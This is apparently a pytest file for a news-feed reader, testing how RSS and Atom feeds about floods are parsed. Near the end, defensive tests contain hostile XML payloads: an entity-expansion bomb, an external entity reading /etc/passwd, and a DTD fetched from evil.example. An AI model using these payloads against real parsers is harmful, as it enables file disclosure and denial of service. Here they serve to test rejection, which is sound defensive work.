"""One record an entry; each feed here is written field by field from the specification it names."""

from __future__ import annotations

import sys
import time

import pytest

from detector.reading import Reading
from detector.reading.decoding import optional
from detector.reading.formats import feed
from detector.records import Article, Rejected
from tests.reading.conftest import Read

# RSS 2.0 (rssboard.org/rss-specification) with the modules content, dc and media, as news sites have it.
RSS = """<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet type="text/xsl" href="feed.xsl"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
  xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/"
  xmlns:atom="http://www.w3.org/2005/Atom">
<channel>
<title>Le Courrier du Fleuve</title>
<link>https://courrier.example/</link>
<description>Toute l'actualité du fleuve</description>
<language>fr-FR</language>
<pubDate>Thu, 05 Mar 2026 07:00:00 +0100</pubDate>
<lastBuildDate>Thu, 05 Mar 2026 07:00:00 +0100</lastBuildDate>
<atom:link href="https://courrier.example/rss" rel="self" type="application/rss+xml"/>
<image><url>https://courrier.example/logo.png</url><title>Le logo</title><link>https://courrier.example/</link></image>
<item>
<title>La Loire en crue &amp; 2 400 évacués</title>
<link>https://courrier.example/crue?utm=rss</link>
<description>Le résumé, que la dépêche entière remplace.</description>
<content:encoded><![CDATA[<p>La Loire a dépassé <b>six mètres</b>&nbsp;à Orléans.</p><script>track()</script>
<p>Quelque 2 400 habitants ont quitté leur maison.<br/>La décrue sera lente.</p>]]></content:encoded>
<dc:creator>Anne Dupont</dc:creator>
<category>Météo</category>
<guid isPermaLink="false">courrier-1234</guid>
<pubDate>Wed, 04 Mar 2026 06:42:00 +0100</pubDate>
<media:content url="https://courrier.example/1.jpg" medium="image"/>
<enclosure url="https://courrier.example/1.mp3" length="1" type="audio/mpeg"/>
</item>
<item>
<title>Les routes fermées</title>
<guid>https://courrier.example/routes</guid>
<description>Les routes le long du fleuve &lt;em&gt;resteront&lt;/em&gt; fermées.</description>
<source url="https://autre.example/rss">L'Autre Journal</source>
<pubDate>hier matin</pubDate>
</item>
<item><title>Une image</title><guid isPermaLink="false">courrier-1236</guid>
<description>&lt;img src="x"&gt;</description></item>
<item><link>https://courrier.example/ancien</link><description>La crue de 1907 à Orléans.</description></item>
</channel>
</rss>
"""

# Atom 1.0 (RFC 4287).
ATOM = """<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="en">
<title type="text">River Wire</title>
<id>tag:wire.example,2026:feed</id>
<updated>2026-03-05T12:00:00Z</updated>
<link rel="self" href="https://wire.example/feed"/>
<entry xml:lang="ar">
<title type="html">&lt;b&gt;الفيضان&lt;/b&gt; في الخرطوم</title>
<id>tag:wire.example,2026:1</id>
<link rel="enclosure" href="https://wire.example/1.mp3"/>
<link rel="alternate" type="text/html" href="https://wire.example/1"/>
<published>2026-03-04T08:15:00+03:00</published>
<updated>2026-03-04T11:00:00+03:00</updated>
<summary>ملخص</summary>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>ارتفع منسوب <em>النهر</em> مترين.</p>
<p>غادر 2400 شخص منازلهم.</p></div></content>
<source><title>أخبار النهر</title><id>tag:nahr.example</id></source>
</entry>
<entry>
<title>Water &lt;level&gt; falls</title>
<id>tag:wire.example,2026:2</id>
<updated>2026-03-05T12:00:00Z</updated>
<summary type="html">&lt;p&gt;The river fell.&lt;/p&gt;&lt;p&gt;Roads stay closed.&lt;/p&gt;</summary>
</entry>
</feed>
"""

# RSS 1.0 (web.resource.org/rss/1.0) with Dublin Core.
RDF = """<?xml version="1.0" encoding="gb2312"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
  xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel rdf:about="https://changjiang.example/"><title>长江新闻</title><link>https://changjiang.example/</link>
<description>新闻</description><dc:language>zh-CN</dc:language>
<items><rdf:Seq><rdf:li rdf:resource="https://changjiang.example/1"/></rdf:Seq></items></channel>
<item rdf:about="https://changjiang.example/1"><title>水位上涨两米</title><link>https://changjiang.example/1</link>
<description>长江武汉段水位昨夜上涨两米。</description><dc:date>2026-03-04T08:30:00+08:00</dc:date></item>
</rdf:RDF>
"""


def reasons(reading: Reading) -> list[tuple[int | None, str]]:
    return [(each.record, each.reason) for each in reading.rejected]


def rss(items: str, start: str = "") -> str:
    return f"{start}<rss version='2.0'><channel><title>T</title>{items}</channel></rss>"


def item(number: int, text: str = "The river rose.") -> str:
    return f"<item><guid>tag:{number}</guid><description>{text}</description></item>"


@pytest.mark.filterwarnings("ignore:dates that could not be read")
def test_rss_2(read: Read) -> None:
    reading = read("a.xml", RSS)
    assert reading.articles == [
        Article(
            "courrier-1234",
            "La Loire a dépassé six mètres à Orléans.\nQuelque 2 400 habitants ont quitté leur maison.\n"
            "La décrue sera lente.",
            "La Loire en crue & 2 400 évacués",
            "fr-FR",
            "2026-03-04T06:42:00+01:00",
            "Le Courrier du Fleuve",
            "https://courrier.example/crue?utm=rss",
        ),
        Article(
            "https://courrier.example/routes",
            "Les routes le long du fleuve resteront fermées.",
            "Les routes fermées",
            "fr-FR",
            None,
            "L'Autre Journal",
            "https://courrier.example/routes",
        ),
        Article(
            "https://courrier.example/ancien",
            "La crue de 1907 à Orléans.",
            None,
            "fr-FR",
            None,
            "Le Courrier du Fleuve",
            "https://courrier.example/ancien",
        ),
    ]
    [(number, reason)] = reasons(reading)
    assert number == 3
    assert reason.startswith("no text")
    assert reading.rejected[0].id == "courrier-1236"
    assert reading.unread_dates == 1


def test_atom(read: Read) -> None:
    assert list(read("a.atom", ATOM)) == [
        Article(
            "tag:wire.example,2026:1",
            "ارتفع منسوب النهر مترين.\nغادر 2400 شخص منازلهم.",
            "الفيضان في الخرطوم",
            "ar",
            "2026-03-04T08:15:00+03:00",
            "أخبار النهر",
            "https://wire.example/1",
        ),
        Article(
            "tag:wire.example,2026:2",
            "The river fell.\nRoads stay closed.",
            "Water <level> falls",
            "en",
            "2026-03-05T12:00:00+00:00",
            "River Wire",
        ),
    ]


@pytest.mark.parametrize("encoding", ["gb2312", "utf-8", "utf-16"])
def test_rss_1(encoding: str, read: Read) -> None:
    url = "https://changjiang.example/1"
    assert list(read("a.rdf", RDF.encode(encoding))) == [
        Article(
            url,
            "长江武汉段水位昨夜上涨两米。",
            "水位上涨两米",
            "zh-CN",
            "2026-03-04T08:30:00+08:00",
            "长江新闻",
            url,
        )
    ]


@pytest.mark.parametrize("name", ["a", "a.txt", "a.xml", "a.rss", "a.dat"])
@pytest.mark.parametrize(
    "start", ["", "\n<!-- made by hand -->", '<!DOCTYPE rss PUBLIC "-//N//DTD RSS 0.91//EN" "x.dtd">']
)
def test_a_feed_is_detected_by_its_content(name: str, start: str, read: Read) -> None:
    assert list(read(name, rss(item(1), start))) == [Article("tag:1", "The river rose.", source="T")]


def test_a_feed_without_entries_counts_as_empty(read: Read) -> None:
    assert reasons(read("a.rss", rss(""))) == [(None, "empty file: no records in it")]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Smith & Sons rose.", "Smith & Sons rose."),
        ("Two &nbsp; rivers.", "Two rivers."),
        ("One\x0btwo three.", "One\ufffdtwo three."),
        ("One <b>two three.", "One two three."),
    ],
)
def test_a_malformed_feed_is_read_as_far_as_possible(text: str, shown: str, read: Read) -> None:
    reading = read("a.rss", rss(item(1) + item(2, text) + item(3)))
    assert [article.text for article in reading.articles] == ["The river rose.", shown, "The river rose."]
    assert all(number is None and reason.startswith("malformed XML: ") for number, reason in reasons(reading))


def test_an_incomplete_last_entry_is_rejected(read: Read) -> None:
    complete = rss(item(1) + item(2))
    reading = read("a.rss", complete[: complete.rindex(" rose")])
    assert [article.id for article in reading.articles] == ["tag:1"]
    assert reasons(reading) == [
        (2, "the feed ends inside this entry"),
        (
            None,
            "malformed XML: no element found; what follows was read as far as possible",
        ),
    ]


BOMB = "<!DOCTYPE rss [<!ENTITY b0 'ha'>" + "".join(
    f"<!ENTITY b{level} '{f'&b{level - 1};' * 10}'>" for level in range(1, 12)
)


@pytest.mark.parametrize(
    "document",
    [
        rss(item(1, "&b11;"), BOMB + "]>"),
        rss(item(1, "&b;" * 30_000), f"<!DOCTYPE rss [<!ENTITY b '{'x' * 30_000}'>]>"),
        rss(item(1, "&b;"), '<!DOCTYPE rss [<!ENTITY b SYSTEM "file:///etc/passwd">]>'),
        rss(item(1, "&b;"), '<!DOCTYPE rss [<!ENTITY % b SYSTEM "http://evil.example/x.dtd"> %b;]>'),
    ],
)
def test_a_feed_that_defines_entities_is_rejected_once(document: str, read: Read) -> None:
    assert reasons(read("a.rss", document)) == [
        (None, "the feed defines its own entities (in its DOCTYPE), which are not read")
    ]


@pytest.mark.parametrize(
    "hostile",
    [
        "<div>" * 20_000,
        "<" * 90_000,
        "&" * 90_000,
        "<!--" * 22_000,
        "<![CDATA[" * 10_000,
        "<!a" * 30_000,
        "<?" * 45_000,
        "&lt;a b=" * 11_000,
        "&lt;!--" * 13_000,
        "<item>" * 15_000,
        "<x:y xmlns:x='u'>" * 5000,
    ],
)
def test_a_hostile_feed_takes_bounded_time_and_hides_nothing(hostile: str, read: Read) -> None:
    read("b.rss", rss(item(1)))
    start = time.process_time()
    reading = read("a.rss", rss(item(1) + item(2, hostile)))
    assert reading[0] == Article("tag:1", "The river rose.", source="T")
    assert len(reading) > 1
    assert time.process_time() - start < 10


def test_the_limit(read: Read, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(feed, "FEED_LIMIT", 100)
    assert reasons(read("a.rss", rss(item(1) * 5))) == [(None, "feed larger than 100 bytes, the limit for one feed")]


def test_without_its_package_a_feed_is_rejected_once(read: Read, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "feedparser", None)
    optional.library.cache_clear()
    [outcome] = read("a.rss", RSS)
    assert isinstance(outcome, Rejected)
    assert outcome.reason == "Feeds need a package: pip install 'detector[feeds]'"
    optional.library.cache_clear()
